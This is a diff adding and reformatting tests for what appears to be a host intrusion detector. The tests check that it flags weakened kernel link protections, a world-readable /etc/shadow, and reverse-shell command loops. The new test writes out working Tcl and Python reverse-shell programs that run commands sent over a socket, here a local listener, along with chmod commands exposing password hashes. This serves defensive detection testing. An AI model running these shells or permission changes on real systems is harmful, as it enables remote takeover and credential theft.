@@ -7269,7 +7269,9 @@ fn kernel_settings_files_written_with_a_weak_setting() {
     );
     let pid = run(Command::new("python3").args([
         "-c",
-        &format!("open('{usr}', 'w').write('fs.protected_symlinks=0\\nfs.protected_hardlinks = 0\\n')"),
+        &format!(
+            "open('{usr}', 'w').write('fs.protected_symlinks=0\\nfs.protected_hardlinks = 0\\n')"
+        ),
     ]));
     raised(pid, evasion, "fs.protected_symlinks", "0", &usr);
     // Ordinary tuning and full randomisation: nothing at Medium or above.
@@ -7351,10 +7353,8 @@ fn the_password_hashes_made_readable_by_every_account() {
         &format!("{:04o}", was("/etc/gshadow") | 0o004),
         "chmod o+r",
     );
-    let pid = run(Command::new("python3").args([
-        "-c",
-        "import os; os.chmod('/etc/shadow', 0o604)",
-    ]));
+    let pid =
+        run(Command::new("python3").args(["-c", "import os; os.chmod('/etc/shadow', 0o604)"]));
     put_back("/etc/shadow");
     raised(pid, "/etc/shadow", "0604", "python os.chmod");
     // The distribution's own modes given again: nothing at Medium or above.
@@ -7364,4 +7364,93 @@ fn the_password_hashes_made_readable_by_every_account() {
         let found = detect(pid);
         assert!(loud(&found).is_empty(), "chmod {mode}: {:?}", kinds(&found));
     }
+}
+
+/// A listener on 127.0.0.1 that sends each of `commands` as a line to the first connection and
+/// reads what comes back; returns its port and the thread (joined for what it read).
+fn command_peer(commands: &'static [&'static str]) -> (u16, std::thread::JoinHandle<String>) {
+    use std::io::Read as _;
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1");
+    let port = listener.local_addr().expect("local address").port();
+    let peer = std::thread::spawn(move || {
+        let Ok((mut conn, _)) = listener.accept() else {
+            return String::new();
+        };
+        let _ = conn.set_read_timeout(Some(Duration::from_secs(3)));
+        let mut got = String::new();
+        for c in commands {
+            let _ = conn.write_all(format!("{c}\n").as_bytes());
+            std::thread::sleep(Duration::from_millis(500));
+            let mut buf = [0u8; 4096];
+            if let Ok(n) = conn.read(&mut buf) {
+                got.push_str(&String::from_utf8_lossy(&buf[..n]));
+            }
+        }
+        got
+    });
+    (port, peer)
+}
+
+#[test]
+fn interpreter_loops_that_run_what_a_socket_sends() {
+    if !privileged("interpreter_loops_that_run_what_a_socket_sends") {
+        return;
+    }
+    let Ok(tclsh) = which("tclsh") else {
+        not_tested("NOT TESTED tcl command loop: no tclsh");
+        return;
+    };
+    let looped = "behaviour-reverse-shell-command-loop";
+    let raised = |pid: u32, how: &str, got: &str| {
+        assert!(got.contains("uid=0"), "{how}: the peer read {got:?}");
+        let found = detect(pid);
+        let f = of(&found, looped);
+        assert!(!f.is_empty(), "{how}: {:?}", kinds(&found));
+        assert_eq!(f[0].finding_type, "Execution:Runtime/ReverseShell", "{how}");
+        assert_eq!(f[0].severity_label, SeverityLabel::High, "{how}");
+        assert!(
+            f[0].context.additional["connectedTo"].starts_with("127.0.0.1:"),
+            "{how}"
+        );
+    };
+    // revshells.com's Tcl form, its program on tclsh's standard input.
+    let (port, peer) = command_peer(&["id", "uname -a"]);
+    let program = format!(
+        "set s [socket 127.0.0.1 {port}]; while {{[gets $s c] >= 0}} {{ catch {{exec {{*}}$c}} r; \
+         puts $s $r; flush $s }}"
+    );
+    let pid = run_with_input(&mut Command::new(&tclsh), program.as_bytes());
+    raised(pid, "tclsh exec loop", &peer.join().unwrap_or_default());
+    // python's recv loop with `shell=True`: the line keeps its newline.
+    let (port, peer) = command_peer(&["id"]);
+    let pid = run(Command::new("python3").args([
+        "-c",
+        &format!(
+            "import socket,subprocess\ns=socket.create_connection(('127.0.0.1',{port}))\n\
+             while True:\n  c=s.recv(1024)\n  if not c: break\n  \
+             s.sendall(subprocess.run(c.decode(),shell=True,capture_output=True).stdout)"
+        ),
+    ]));
+    raised(pid, "python recv loop", &peer.join().unwrap_or_default());
+    // tclsh running a program with no connection, and python fetching a page and then
+    // running commands it wrote itself: nothing at Medium or above.
+    let pid = run_with_input(&mut Command::new(&tclsh), b"puts [exec uname -r]\n");
+    let found = detect(pid);
+    assert!(loud(&found).is_empty(), "tclsh exec: {:?}", kinds(&found));
+    let (port, peer) = command_peer(&["hello"]);
+    let pid = run(Command::new("python3").args([
+        "-c",
+        &format!(
+            "import socket,subprocess\ns=socket.create_connection(('127.0.0.1',{port}))\n\
+             s.recv(64)\nsubprocess.run('uname -r',shell=True,capture_output=True)\n\
+             subprocess.run(['ls','/'],capture_output=True)\ns.close()"
+        ),
+    ]));
+    let _ = peer.join();
+    let found = detect(pid);
+    assert!(
+        loud(&found).is_empty(),
+        "python fetch then run: {:?}",
+        kinds(&found)
+    );
 }
